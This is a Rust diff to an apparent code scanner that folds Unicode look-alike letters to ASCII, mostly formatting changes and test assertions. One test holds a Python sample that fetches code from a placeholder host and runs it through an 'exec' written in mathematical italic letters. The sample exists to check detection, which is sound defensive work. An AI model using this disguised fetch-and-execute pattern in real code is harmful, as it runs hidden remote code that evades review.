@@ -35,7 +35,11 @@ pub(crate) fn fold(c: char) -> Option<char> {
     let cp = c as u32;
     let letter = |i: u32| {
         let i = i % 52;
-        char::from_u32(if i < 26 { 'A' as u32 + i } else { 'a' as u32 + i - 26 })
+        char::from_u32(if i < 26 {
+            'A' as u32 + i
+        } else {
+            'a' as u32 + i - 26
+        })
     };
     match cp {
         // Thirteen 52-letter alphabets (bold, italic, script, fraktur, double-struck, sans, monospace…).
@@ -53,9 +57,9 @@ pub(crate) fn fold(c: char) -> Option<char> {
         0x2134 => Some('o'),
         0x2113 => Some('l'),
         0x2111 | 0x2110 => Some('I'),
-        0x211C | 0x211B | 0x211D => Some('R'),
+        0x211B..=0x211D => Some('R'),
         0x2102 => Some('C'),
-        0x210D | 0x210B | 0x210C => Some('H'),
+        0x210B..=0x210D => Some('H'),
         0x2115 => Some('N'),
         0x2119 => Some('P'),
         0x211A => Some('Q'),
@@ -162,7 +166,9 @@ impl RuleSet {
             .collect();
         let lines = LineIndex::new(file.text);
         for mut finding in scan.findings {
-            if known.contains(&(finding.rule_id.clone(), finding.line)) || is_nfkc_rule_id(self, &finding.rule_id) {
+            if known.contains(&(finding.rule_id.clone(), finding.line))
+                || is_nfkc_rule_id(self, &finding.rule_id)
+            {
                 continue;
             }
             // One folded character per original one: positions carry over unchanged.
@@ -218,13 +224,19 @@ mod tests {
         let text = "import os\nimport urllib.request\ncode = urllib.request.urlopen('https://cdn.example.invalid/p').read()\n𝘦𝘹𝘦𝘤(code)\n";
         let result = scan(text);
         assert!(
-            result.findings.iter().any(|f| f.message.starts_with("read as Python reads")
-                && f.line == 4
-                && f.action == RecommendedAction::Block),
+            result
+                .findings
+                .iter()
+                .any(|f| f.message.starts_with("read as Python reads")
+                    && f.line == 4
+                    && f.action == RecommendedAction::Block),
             "{:#?}",
             result.findings
         );
-        assert!(result.findings.iter().any(|f| f.message.contains("Python reads it as `exec`")));
+        assert!(result
+            .findings
+            .iter()
+            .any(|f| f.message.contains("Python reads it as `exec`")));
     }
 
     #[test]
@@ -232,7 +244,10 @@ mod tests {
         let text = "# 𝐁𝐨𝐥𝐝 heading in a comment\nTITLE = '𝐁𝐨𝐥𝐝 𝐓𝐢𝐭𝐥𝐞'\nprint(TITLE)\n";
         let result = scan(text);
         assert!(
-            result.findings.iter().all(|f| !f.message.contains("look-alike")),
+            result
+                .findings
+                .iter()
+                .all(|f| !f.message.contains("look-alike")),
             "{:#?}",
             result.findings
         );
